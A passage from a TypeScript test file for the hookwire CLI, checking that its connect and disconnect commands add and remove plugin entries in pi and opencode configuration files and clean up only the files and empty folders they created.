      ".pi/settings.json",
      '{"packages": ["npm:@hookwire/pi@0.1.0", "npm:@hookwire/pipe", "npm:x"]}\n',
    );
    expect((await box.run(["disconnect", "pi"])).stdout).toContain(
      "removed hookwire's entries from .pi/settings.json",
    );
    expect(JSON.parse(read(box, ".pi/settings.json"))).toEqual({ packages: ["npm:@hookwire/pipe", "npm:x"] });
  });

  it("edits the opencode.jsonc a project has (comments kept), and removes an opencode.json it created", async () => {
    const box = sandbox("connect");
    const mine = '{\n\t// mine\n\t"model": "x/m"\n}\n';
    write(box, "opencode.jsonc", mine);
    await box.run(["connect", "opencode"]);
    expect(read(box, "opencode.jsonc")).toBe(
      `{\n\t// mine\n\t"model": "x/m",\n\t"plugin": [\n\t\t${JSON.stringify(OPENCODE_DIR)}\n\t]\n}\n`,
    );
    await box.run(["disconnect", "opencode"]);
    expect(read(box, "opencode.jsonc")).toBe(mine);

    const fresh = sandbox("connect");
    expect((await fresh.run(["connect", "opencode"])).stdout).toContain("created opencode.json");
    expect(JSON.parse(read(fresh, "opencode.json"))).toEqual({ plugin: [OPENCODE_DIR] });
    expect((await fresh.run(["disconnect", "opencode"])).stdout).toContain(
      "removed opencode.json (connect had created it)",
    );
  });

  it("removes a folder it created once it is empty, and never one the user had or has since put a file in", async () => {
    const fresh = sandbox("connect");
    expect((await fresh.run(["connect", "pi", "--user"])).stdout).toContain(
      "created <home>/.pi/agent/settings.json",
    );
    expect((await fresh.run(["disconnect", "pi", "--user"])).stdout).toMatchInlineSnapshot(`
      "✔ pi: removed <home>/.pi/agent/settings.json and <home>/.pi/agent/ and <home>/.pi/ (connect had created them)
      "
    `);
    expect(existsSync(path.join(fresh.home, ".pi"))).toBe(false);

    const had = sandbox("connect");
    mkdirSync(path.join(had.cwd, ".pi"));
    await had.run(["connect", "pi"]);
    expect((await had.run(["disconnect", "pi"])).stdout).toMatchInlineSnapshot(`
      "✔ pi: removed .pi/settings.json (connect had created it)
      "
    `);
    expect(readdirSync(path.join(had.cwd, ".pi"))).toEqual([]);

    const since = sandbox("connect");
    await since.run(["connect", "pi"]);
    write(since, ".pi/extensions/mine.ts", "export default () => {};\n");
    await since.run(["connect", "pi"]);
    expect((await since.run(["disconnect", "pi"])).stdout).toContain(
      "removed .pi/settings.json (connect had created it)",
    );
    expect(readdirSync(path.join(since.cwd, ".pi"))).toEqual(["extensions"]);

    // The user deleted the file themselves: the folder connect made for it goes at disconnect when empty.
    const deleted = sandbox("connect");
    await deleted.run(["connect", "pi"]);
    rmSync(path.join(deleted.cwd, ".pi/settings.json"));
    expect((await deleted.run(["disconnect", "pi"])).stdout).toMatchInlineSnapshot(`
      "✔ pi: not connected (.pi/settings.json has no hookwire entry); removed the empty .pi/ connect had created
      "
    `);
    expect(existsSync(path.join(deleted.cwd, ".pi"))).toBe(false);
  });
});
